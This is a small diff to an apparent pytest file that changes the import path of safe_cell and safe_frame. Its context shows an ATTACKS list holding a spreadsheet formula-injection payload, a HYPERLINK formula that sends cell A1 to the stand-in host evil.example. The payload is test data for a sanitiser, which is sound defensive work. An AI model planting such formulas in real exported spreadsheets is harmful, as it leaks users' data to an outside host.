@@ -5,7 +5,7 @@ from __future__ import annotations
 import pandas as pd
 import pytest
 
-from onpace.views.cells import safe_cell, safe_frame
+from onpace.views.value_cells import safe_cell, safe_frame
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
